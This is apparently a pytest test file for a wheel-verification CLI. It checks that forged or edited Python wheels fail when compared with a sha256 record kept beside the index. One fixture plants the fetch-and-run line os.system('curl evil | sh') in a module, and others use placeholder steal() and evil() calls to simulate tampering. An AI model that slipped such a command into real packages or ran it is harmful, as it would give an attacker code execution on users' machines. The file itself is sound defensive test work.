"""`inspect WHEEL` and `verify-wheel` believe a wheel only when its sha256 matches the record kept
beside the index; a record inside a wheel is only a claim (anyone can copy one in)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from forged_wheels import (embedded_member, plain_wheel, publish, read_members,
                           sha256_hex, write_wheel)
from mirror_builder.cli.app import main

SETTINGS = Path(__file__).resolve().parents[2] / "settings.yaml"


@pytest.fixture
def published(tmp_path) -> dict:
    output = tmp_path / "out"
    wheel = publish(output, tmp_path / "work")
    return {"output": output, "wheel": wheel, "sha256": sha256_hex(wheel),
            "record": output / "records" / "demo" / f"{wheel.name}.build.json"}


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["--settings", str(SETTINGS), *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def edited_copy(wheel: Path, folder: Path) -> Path:
    """The published wheel with its module changed and RECORD left as it was."""
    members = read_members(wheel)
    members["demo/__init__.py"] = b"import os; os.system('curl evil | sh')\n"
    folder.mkdir(parents=True, exist_ok=True)
    return write_wheel(folder / wheel.name, members, rewrite_record=False)


def record_copied_into_own_wheel(genuine: Path, folder: Path, name: str = "demo") -> Path:
    """The forger's own wheel, with the genuine wheel's build record copied in and RECORD
    rewritten to match: consistent in itself, and not the wheel that record describes."""
    own = plain_wheel(folder, name, "1.0", files={f"{name}/payload.py": b"steal()\n"})
    members = read_members(own)
    dist_info = f"{name}-1.0.dist-info"
    members[f"{dist_info}/mirror_builder/build-record.json"] = read_members(genuine)[
        embedded_member(genuine)]
    return write_wheel(own, members)


def test_a_genuine_wheel_copied_elsewhere_is_verified_against_the_record_beside_the_index(
        published, tmp_path, capsys):
    copy = tmp_path / "elsewhere" / published["wheel"].name
    copy.parent.mkdir()
    shutil.copy(published["wheel"], copy)
    code, out, _ = run(capsys, "inspect", str(copy), "-o", str(published["output"]))
    assert code == 0
    first = out.splitlines()[0]
    assert first == f"verified: sha256 matches the record beside the index at {published['record']}"
    assert f"sha256 {published['sha256']}" in out
    assert "built from" in out


def test_a_wheel_whose_module_was_edited_is_not_verified_exits_1_and_names_the_file(
        published, tmp_path, capsys):
    forged = edited_copy(published["wheel"], tmp_path / "forged")
    code, out, _ = run(capsys, "inspect", str(forged), "-o", str(published["output"]))
    assert code == 1
    assert out.startswith("NOT VERIFIED: ")
    assert "demo/__init__.py does not match its RECORD entry" in out
    assert "built from" not in out


def test_a_wheel_with_a_copied_build_record_is_not_verified(published, tmp_path, capsys):
    forged = record_copied_into_own_wheel(published["wheel"], tmp_path / "forged")
    assert forged.name == published["wheel"].name
    code, out, _ = run(capsys, "inspect", str(forged), "-o", str(published["output"]))
    assert code == 1
    assert out.startswith("NOT VERIFIED: ")
    assert "sha256 differs from the one in the record beside the index" in " ".join(out.split())
    assert "built from" not in out


def test_a_build_record_copied_into_a_wheel_of_another_project_is_not_verified(
        published, tmp_path, capsys):
    forged = record_copied_into_own_wheel(published["wheel"], tmp_path / "forged", name="evil")
    code, out, _ = run(capsys, "inspect", str(forged), "-o", str(published["output"]))
    assert code == 1
    assert "the record inside it describes demo-1.0-py3-none-any.whl" in " ".join(out.split())


def test_inspect_prints_the_given_files_sha256_never_the_records(published, tmp_path, capsys):
    forged = record_copied_into_own_wheel(published["wheel"], tmp_path / "forged")
    _, out, _ = run(capsys, "inspect", str(forged), "-o", str(published["output"]))
    assert f"sha256 {sha256_hex(forged)}" in out
    assert published["sha256"] not in out


def test_without_a_record_beside_an_index_the_embedded_record_is_shown_as_an_unverified_claim(
        published, tmp_path, capsys):
    code, out, _ = run(capsys, "inspect", str(published["wheel"]), "-o", str(tmp_path / "empty"))
    assert code == 0
    flat = " ".join(out.split())
    assert flat.startswith("unverified: no record beside an index to compare with")
    assert "only a claim" in flat


def test_require_index_makes_an_unverifiable_wheel_an_error(published, tmp_path, capsys):
    code, out, _ = run(capsys, "inspect", str(published["wheel"]), "-o", str(tmp_path / "empty"),
                       "--require-index")
    assert code == 1
    assert out.startswith("unverified: ")


def test_an_edited_pre_built_wheel_is_not_verified(tmp_path, capsys):
    """A pre-built wheel carries no record; only the record beside the index speaks for it."""
    output = tmp_path / "out"
    upstream = plain_wheel(output / "files" / "demo")
    record = output / "records" / "demo" / f"{upstream.name}.build.json"
    record.parent.mkdir(parents=True)
    record.write_text(json.dumps({"name": "demo", "version": "1.0", "wheel": upstream.name,
                                  "built_from_source": False,
                                  "wheel_sha256": sha256_hex(upstream)}))
    forged = tmp_path / "forged" / upstream.name
    forged.parent.mkdir()
    write_wheel(forged, read_members(upstream) | {"demo/__init__.py": b"evil()\n"})
    code, out, _ = run(capsys, "inspect", str(forged), "-o", str(output))
    assert code == 1
    assert out.startswith("NOT VERIFIED: ")


def test_inspect_json_carries_the_verdict_in_a_versioned_field(published, tmp_path, capsys):
    forged = edited_copy(published["wheel"], tmp_path / "forged")
    code, out, _ = run(capsys, "inspect", str(forged), "--json", "-o", str(published["output"]))
    document = json.loads(out)
    assert code == 1
    verdict = document["verification"]
    assert verdict["schema"] == "mirror-builder/wheel-verification/v1"
    assert verdict["status"] == "failed" and verdict["sha256"] == sha256_hex(forged)
    assert document["records"] == []  # the record inside does not describe this file


def test_inspect_json_of_a_genuine_wheel_gives_the_record_beside_the_index(published, capsys):
    code, out, _ = run(capsys, "inspect", str(published["wheel"]), "--json",
                       "-o", str(published["output"]))
    document = json.loads(out)
    assert code == 0
    assert document["verification"]["status"] == "verified"
    assert document["records"][0]["wheel_sha256"] == published["sha256"]


def test_the_log_of_a_forged_wheel_is_not_shown(published, tmp_path, capsys):
    log = published["record"].with_name(f"{published['wheel'].name}.log")
    log.write_text("the genuine build's log\n")
    forged = record_copied_into_own_wheel(published["wheel"], tmp_path / "forged")
    code, out, err = run(capsys, "inspect", str(forged), "--log", "-o", str(published["output"]))
    assert code == 1 and out == ""
    assert "NOT VERIFIED" in err


def test_verify_wheel_exits_0_only_if_every_file_verifies(published, tmp_path, capsys):
    forged = edited_copy(published["wheel"], tmp_path / "forged")
    code, out, _ = run(capsys, "verify-wheel", str(published["wheel"]), "-o",
                       str(published["output"]))
    assert code == 0
    assert f"verified: {published['wheel']}" in out
    code, out, _ = run(capsys, "verify-wheel", str(published["wheel"]), str(forged),
                       "-o", str(published["output"]))
    assert code == 1
    assert f"NOT VERIFIED: {forged}" in " ".join(out.split())


def test_verify_wheel_is_strict_when_no_record_beside_an_index_exists(published, tmp_path, capsys):
    code, out, _ = run(capsys, "verify-wheel", str(published["wheel"]),
                       "-o", str(tmp_path / "empty"))
    assert code == 1
    assert "unverified" in out


def test_verify_wheel_json_lists_each_files_checks(published, tmp_path, capsys):
    forged = record_copied_into_own_wheel(published["wheel"], tmp_path / "forged")
    code, out, _ = run(capsys, "verify-wheel", "--json", str(published["wheel"]), str(forged),
                       "-o", str(published["output"]))
    document = json.loads(out)
    assert code == 1
    assert document["schema"] == "mirror-builder/verify-wheel/v1"
    assert document["verified"] is False
    genuine, fake = document["wheels"]
    assert genuine["status"] == "verified" and fake["status"] == "failed"
    failed = {c["name"] for c in fake["checks"] if c["status"] == "failed"}
    assert failed == {"sha256"}
    assert fake["sha256"] == sha256_hex(forged)



def test_a_malformed_unverified_claim_is_one_error_line_not_a_traceback(tmp_path, capsys):
    wheel = plain_wheel(tmp_path / "up")
    members = read_members(wheel)
    members["demo-1.0.dist-info/mirror_builder/build-record.json"] = json.dumps(
        {"name": "demo", "version": "1.0", "wheel": wheel.name, "wheel_version": "1.0"}).encode()
    forged = write_wheel(wheel, members)
    code, out, err = run(capsys, "inspect", str(forged), "-o", str(tmp_path / "empty"))
    assert code == 1
    assert out.startswith("unverified: ")
    flat = " ".join(err.split())
    assert "error: the record inside demo-1.0-py3-none-any.whl is malformed" in flat
